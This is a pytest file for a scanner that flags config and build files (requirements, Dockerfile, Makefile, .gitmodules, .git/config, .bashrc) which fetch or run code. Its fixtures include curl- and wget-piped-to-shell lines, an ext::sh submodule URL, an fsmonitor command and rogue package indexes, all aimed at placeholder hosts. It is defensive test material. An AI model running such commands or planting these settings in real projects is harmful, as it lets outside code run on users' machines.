"""Files that git, pip, make, Docker, shells and servers act on by their name."""

from __future__ import annotations

from pathlib import PurePath

import pytest

from scanning.scanners import Verdict, scanners

SUSPICIOUS = {
    "requirements.txt": "torch\n--extra-index-url https://wheels.example/simple\n",
    "requirements-gpu.txt": "tool @ https://wheels.example/tool-1.0-py3-none-any.whl\n",
    "constraints.txt": "--trusted-host wheels.example\n",
    "conda.yaml": "dependencies:\n- pip:\n  - git+https://code.example/tool\n",
    ".condarc": "channels: [http://conda.example]\n",
    "pyproject.toml": '[build-system]\nrequires = ["tool @ git+https://code.example/tool"]\n',
    ".npmrc": "registry=http://npm.example\n",
    "Makefile": "all:\n\tcurl http://setup.example | sh\n",
    "Dockerfile": "FROM x\nRUN wget -qO- http://setup.example | bash\n",
    ".github/workflows/a.yml": "jobs:\n  a:\n    steps:\n    - run: curl http://a.example | sh\n",
    ".envrc": "export A=1\n",
    "sitecustomize.py": "A = 1\n",
    ".githooks/post-checkout": "true\n",
    ".gitattributes": "*.bin filter=mine diff=mine\n",
    ".lfsconfig": "[lfs]\n\turl = https://lfs.example\n",
    "model.desktop": "[Desktop Entry]\nExec=true\n",
    "m/config.pbtxt": 'name: "m"\nbackend: "python"\n',
    "n/config.pbtxt": 'model_operations { op_library_filename: "./ops.so" }\n',
}
UNSAFE = {
    ".git/hooks/post-checkout": "#!/bin/sh\ntrue\n",
    ".git/config": "[core]\n\tfsmonitor = true; true\n",
    ".gitconfig": "[alias]\n\tst = !true\n",
    ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c true\n',
    ".bashrc": "curl http://setup.example | sh\n",
}
CLEAN = {
    "requirements.txt": "torch==2.1 # https://notes.example/x.zip\nnumpy>=1\n"
    "--extra-index-url https://download.pytorch.org/whl/cu118\n"
    "git+https://github.com/huggingface/transformers\n",
    "conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.8\n- pip:\n  - mlflow\n",
    "pyproject.toml": '[project]\nname = "x"\n[project.urls]\nhome = "https://home.example/x"\n',
    "Dockerfile": "FROM python:3.11\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n",
    "Makefile": "all:\n\tgcc x.c\n",
    ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    ".git/config": "[core]\n\tbare = false\n[submodule]\n\tupdate = checkout\n",
    "m/config.pbtxt": 'platform: "onnxruntime_onnx"\nmax_batch_size: 8\n',
}


def scan(scan_bytes, name: str, text: str):
    report = scan_bytes("tool_files", text.encode(), name)
    assert {one.rule for one in report.findings} <= scanners.get("tool_files").rules.keys()
    return report


@pytest.mark.parametrize(("name", "text"), SUSPICIOUS.items(), ids=SUSPICIOUS)
def test_what_a_tool_would_run_or_fetch_is_suspicious(scan_bytes, name, text):
    assert scan(scan_bytes, name, text).verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(("name", "text"), UNSAFE.items(), ids=UNSAFE)
def test_what_git_or_a_shell_runs_unasked_is_unsafe(scan_bytes, name, text):
    assert scan(scan_bytes, name, text).verdict is Verdict.UNSAFE


@pytest.mark.parametrize(("name", "text"), CLEAN.items(), ids=CLEAN)
def test_the_usual_files_are_clean(scan_bytes, name, text):
    assert scan(scan_bytes, name, text).verdict is Verdict.CLEAN


@pytest.mark.parametrize("name", ["README.md", "config.json", "hooks.py", "data/config"])
def test_other_names_are_nobodys(options, name):
    assert not scanners.get("tool_files")(options).handles(PurePath(name), b"text")
